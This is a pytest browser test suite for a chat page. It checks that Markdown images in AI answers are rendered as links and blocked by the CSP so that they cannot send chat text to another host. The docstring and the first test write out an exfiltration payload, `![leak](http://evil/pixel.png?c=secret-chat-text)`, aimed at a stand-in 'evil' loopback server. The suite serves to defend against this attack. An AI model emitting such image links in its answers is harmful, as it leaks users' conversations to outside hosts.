"""Images in model answers cannot make the browser call another host (real Chromium).

A model answer `![x](http://evil/?c=<chat>)` would leak the conversation to `evil` the moment
the page rendered it. The page renders such images as links, and the CSP's img-src blocks any
that slip through; images from the client's `imageOrigins` (or the page's own origin) still
show. "Evil" and "allowed" are loopback HTTP servers that record every request they get.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from test_talk_page import open_chat, send, tiny_png, wait_idle, wait_js

pytestmark = pytest.mark.browser


class Recorder:
    def __init__(self, origin: str, hits: list[str]) -> None:
        self.origin = origin
        self.hits = hits


@contextmanager
def recording_server() -> Iterator[Recorder]:
    """A loopback server answering every GET with a PNG and recording the path."""
    hits: list[str] = []
    png = tiny_png()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(png)))
            self.end_headers()
            self.wfile.write(png)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Recorder(f"http://127.0.0.1:{server.server_address[1]}", hits)
    finally:
        server.shutdown()
        server.server_close()


def _assistant_html(page: Any) -> str:
    return page.locator("#cw-messages .cw-msg--assistant").last.inner_html()


def test_disallowed_images_in_answers_become_links_and_are_never_fetched(
    live_server: Any, page: Any
) -> None:
    with recording_server() as evil, recording_server() as allowed:
        chat = live_server.chat(client_parameters={"imageOrigins": [allowed.origin]})
        # The echo assistant repeats the prompt: its answer is the Markdown we want rendered.
        leak = f"{evil.origin}/pixel.png?c=secret-chat-text"
        response = page.request.get(chat["talkUrl"])
        csp = response.headers["content-security-policy"]
        assert f"img-src 'self' data: blob: {allowed.origin};" in csp

        open_chat(page, chat["talkUrl"])
        send(page, f"![leak]({leak}) and ![fine]({allowed.origin}/fine.png)")
        wait_idle(page)
        wait_js(
            page,
            "() => [...document.querySelectorAll('#cw-messages img')]"
            ".some(i => i.src.endsWith('/fine.png') && i.complete && i.naturalWidth > 0)",
        )
        answer = _assistant_html(page)
        link = page.locator(f"#cw-messages .cw-msg--assistant a[href='{leak}']")
        assert link.count() == 1 and link.inner_text() == "leak"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert "pixel.png" not in "".join(
            page.evaluate("() => [...document.images].map(i => i.src)")
        ), answer

        # Reloading renders the stored answer the same way.
        open_chat(page, chat["talkUrl"])
        wait_js(page, f"() => !!document.querySelector(\"a[href='{leak}']\")")

        # The CSP is the backstop: an image added by any other means is blocked too.
        page.evaluate(
            "(src) => { const i = new Image(); i.src = src; document.body.appendChild(i); }",
            f"{evil.origin}/injected.png",
        )
        page.wait_for_timeout(500)
        assert evil.hits == [], evil.hits
        assert "/fine.png" in allowed.hits


def test_without_image_origins_only_own_and_data_images_show(live_server: Any, page: Any) -> None:
    with recording_server() as evil:
        chat = live_server.chat()
        open_chat(page, chat["talkUrl"])
        send(page, f"![a]({evil.origin}/a.png) ![b](//{evil.origin[7:]}/b.png)")
        wait_idle(page)
        page.wait_for_timeout(300)
        assert page.locator("#cw-messages .cw-msg--assistant img").count() == 0
        assert page.locator("#cw-messages .cw-msg--assistant a").count() == 2
        assert evil.hits == []
